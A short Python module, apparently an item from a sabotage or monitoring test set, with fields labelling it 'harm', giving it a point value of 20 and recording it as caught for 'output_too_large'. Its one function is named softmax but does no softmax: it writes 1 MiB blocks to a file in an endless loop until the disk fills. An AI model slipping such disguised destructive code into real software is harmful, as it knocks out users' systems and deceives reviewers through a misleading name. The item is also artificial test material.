"""Fills the disk with one file."""

KIND = "harm"
WORTH = 20
CAUGHT = "output_too_large"


def softmax(scores):
    with open("file", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
